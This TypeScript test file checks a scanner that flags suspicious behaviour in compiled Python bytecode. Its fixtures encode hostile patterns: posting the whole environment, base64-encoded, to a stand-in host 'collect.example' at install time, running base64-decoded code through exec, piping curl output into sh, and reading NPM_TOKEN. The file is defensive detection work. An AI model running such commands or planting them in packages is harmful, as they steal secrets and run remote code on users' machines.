import { describe, expect, it } from 'vitest'
import { pycOf } from '../../../../test/support/marshal-writer.ts'
import { opcodesOf } from '../../../formats/pyc/opcodes.ts'
import { readPyc } from '../../../formats/pyc/pyc.ts'
import type { Behaviour } from '../behaviour.ts'
import { bytecodeBehaviours } from './bytecode-behaviours.ts'

/** Instructions of 3.8, which has none of the places behind them that later versions have. */
function codeOf(...rows: readonly (readonly [name: string, argument: number])[]): Buffer {
  const numbers = new Map([...(opcodesOf('3.8')?.names ?? [])].map(([number, name]) => [name, number]))
  return Buffer.from(rows.flatMap(([name, argument]) => [numbers.get(name) ?? 255, argument]))
}

const IMPORT = (name: number): [string, number][] => [['LOAD_CONST', 0], ['LOAD_CONST', 1], ['IMPORT_NAME', name], ['STORE_NAME', name]] // prettier-ignore

const behaviours = (
  names: readonly string[],
  constants: readonly (string | null)[],
  code: Buffer,
  role: 'install' | 'library' = 'library',
): readonly Behaviour[] =>
  bytecodeBehaviours(readPyc(pycOf('3.8', { name: '<module>', names, constants: [0, ...constants], code })), {
    path: 'a.pyc',
    role,
  }).behaviours

describe('behaviours of compiled Python', () => {
  it('follows the whole environment through an encoder to a host', () => {
    // requests.post(URL, base64.b64encode(json.dumps(dict(os.environ))))
    const names = ['requests', 'base64', 'json', 'os', 'post', 'b64encode', 'dumps', 'dict', 'environ']
    const code = codeOf(
      ...IMPORT(0), ...IMPORT(1), ...IMPORT(2), ...IMPORT(3),
      ['LOAD_NAME', 0], ['LOAD_METHOD', 4], ['LOAD_CONST', 2], ['LOAD_NAME', 1], ['LOAD_METHOD', 5], ['LOAD_NAME', 2], ['LOAD_METHOD', 6],
      ['LOAD_NAME', 7], ['LOAD_NAME', 3], ['LOAD_ATTR', 8], ['CALL_FUNCTION', 1], ['CALL_METHOD', 1], ['CALL_METHOD', 1], ['CALL_METHOD', 2],
    ) // prettier-ignore
    const found = behaviours(names, [null, 'https://collect.example/x'], code, 'install')
    expect(found.map(({ kind, subject }) => `${kind} ${subject}`)).toEqual([
      'read-environment *',
      'encode *',
      'network collect.example',
    ])
    const network = found.find(({ kind }) => kind === 'network')
    expect(network?.when).toBe('install')
    expect(network?.inputs).toMatchObject([{ source: 'environment', subject: '*', through: ['json', 'base64'] }])
  })

  it('tells decoded code that is run', () => {
    // exec(base64.b64decode("…"))
    const code = codeOf(...IMPORT(0), ['LOAD_NAME', 1], ['LOAD_NAME', 0], ['LOAD_METHOD', 2], ['LOAD_CONST', 2], ['CALL_METHOD', 1], ['CALL_FUNCTION', 1]) // prettier-ignore
    const found = behaviours(['base64', 'exec', 'b64decode'], [null, 'cHJpbnQoMSk='], code)
    expect(found.map(({ kind, subject }) => `${kind} ${subject}`)).toEqual(['obfuscation encoded-code', 'evaluate ?'])
  })

  it.each([
    [
      'system',
      'curl https://collect.example/x | sh',
      ['execute curl', 'network collect.example', 'download collect.example', 'execute sh'],
    ],
    ['getenv', 'NPM_TOKEN', ['read-environment NPM_TOKEN']],
    ['getenv', 'LANG', []],
  ])('tells os.%s("%s")', (name, text, expected) => {
    const code = codeOf(...IMPORT(0), ['LOAD_NAME', 0], ['LOAD_METHOD', 1], ['LOAD_CONST', 2], ['CALL_METHOD', 1])
    const found = behaviours(['os', name], [null, text], code).map(({ kind, subject }) => `${kind} ${subject}`)
    if (expected.length === 0) expect(found).toEqual([])
    else expect(found).toEqual(expect.arrayContaining(expected.filter((one) => !one.startsWith('network'))))
  })
})
